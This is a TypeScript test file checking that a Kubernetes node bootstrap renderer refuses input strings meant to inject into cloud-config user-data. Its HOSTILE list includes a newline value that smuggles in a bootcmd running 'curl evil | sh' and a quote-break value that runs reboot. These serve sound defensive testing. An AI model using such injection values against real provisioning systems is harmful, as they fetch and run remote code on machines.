/**
 * The bootstrap renderers are a library boundary: NodePool callers and direct callers hand
 * them strings that never went through the configuration loader. No string may add a line, a
 * key or a command to the user-data; each is refused with a message that shows it escaped.
 */
import * as assert from "assert";
import * as YAML from "yaml";
import { renderKubeadmInit, renderNodeUserData } from "../components/bootstrap";
import { ClusterBootstrap, NodeFacts } from "../components/bootstrap/types";
import { testCluster, testNode } from "./fixtures/bootstrap/clusters";

/** Inputs an attacker (or a typo) would try: line breaks into cloud-config, NUL, quotes, YAML syntax. */
const HOSTILE: Array<[string, string]> = [
    ["a newline and bootcmd", "dev\nbootcmd:\n  - [sh, -c, 'curl evil | sh']"],
    ["a carriage return", "dev\r#cloud-config"],
    ["a NUL", "dev\u0000"],
    ["a single quote", "dev'; reboot; '"],
    ["a double quote", 'dev"x'],
    ["YAML flow syntax", "{dev: [1]}"],
    ["a YAML anchor", "&a dev"],
    ["a YAML comment", "dev #x"],
    ["a document marker", "---"],
    ["a Unicode replacement character", "dev\ufffd"],
    ["an empty string", ""],
];

type Case = { field: string; apply: (cluster: ClusterBootstrap, node: NodeFacts, value: string) => [ClusterBootstrap, NodeFacts]; message: (shown: string) => RegExp };

const FIELDS: Case[] = [
    {
        field: "clusterName",
        apply: (cluster, node, value) => [{ ...cluster, clusterName: value }, node],
        message: (shown) => new RegExp(`^BootstrapInputError: clusterName ${escape(shown)} is not a valid cluster name`),
    },
    {
        field: "node name",
        apply: (cluster, node, value) => [cluster, { ...node, name: value }],
        message: (shown) => new RegExp(`^BootstrapInputError: node name ${escape(shown)} is not a valid Kubernetes node name`),
    },
    {
        field: "controlPlaneEndpoint",
        apply: (cluster, node, value) => [{ ...cluster, controlPlaneEndpoint: value }, node],
        message: (shown) => new RegExp(`^BootstrapInputError: controlPlaneEndpoint ${escape(shown)} is neither an IP address nor a DNS name`),
    },
    {
        field: "certSANs",
        apply: (cluster, node, value) => [{ ...cluster, certSANs: [...cluster.certSANs, value] }, node],
        message: (shown) => new RegExp(`^BootstrapInputError: certSANs holds ${escape(shown)}, which is neither an IP address nor a DNS name`),
    },
    {
        field: "kubernetesVersion",
        apply: (cluster, node, value) => [{ ...cluster, kubernetesVersion: `1.34${value}` }, node],
        message: (shown) => new RegExp(`^BootstrapInputError: kubernetesVersion ${escape(shown.replace(/^"/, '"1.34'))} is not a Kubernetes version`),
    },
];

function escape(text: string): string {
    return text.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
}

describe("bootstrap renderers: hostile strings at the boundary", () => {
    for (const { field, apply, message } of FIELDS) {
        for (const [what, value] of HOSTILE) {
            // "1.34" + "" is valid; an empty endpoint on a joining node is "no endpoint" (its own message, tested elsewhere).
            if (value === "" && (field === "kubernetesVersion" || field === "controlPlaneEndpoint")) continue;
            it(`${field} with ${what} is refused, shown escaped`, () => {
                for (const role of ["control-plane-init", "worker"] as const) {
                    const [cluster, node] = apply(testCluster("ipv4-primary"), testNode("ipv4-primary", role), value);
                    assert.throws(() => renderNodeUserData(cluster, node), (e: Error) => {
                        assert.match(`${e.name}: ${e.message}`, message(JSON.stringify(value)));
                        assert.ok(!e.message.includes("\n") && !e.message.includes("\u0000"), e.message);
                        return true;
                    });
                }
            });
        }
    }

    it("a valid input renders one cloud-config whose only top-level keys are ours", () => {
        const text = renderNodeUserData(testCluster("ipv4-primary"), testNode("ipv4-primary", "control-plane-init"));
        const lines = text.split("\n");
        assert.strictEqual(lines[0], "#cloud-config");
        assert.match(lines[1], /^# dualstack cluster [a-z0-9-]+: node [a-z0-9.-]+ \(control-plane-init\)$/);
        assert.deepStrictEqual(Object.keys(YAML.parse(text) as object), ["hostname", "write_files", "runcmd"]);
    });

    it("wildcard and address certificate names are accepted", () => {
        const cluster = { ...testCluster("ipv4-primary"), certSANs: ["*.api.example.org", "api.example.org", "203.0.113.7", "2001:db8::7"] };
        const kubeadm = renderKubeadmInit(cluster, testNode("ipv4-primary", "control-plane-init"));
        assert.match(kubeadm, /- "\*\.api\.example\.org"|- '\*\.api\.example\.org'/);
    });
});
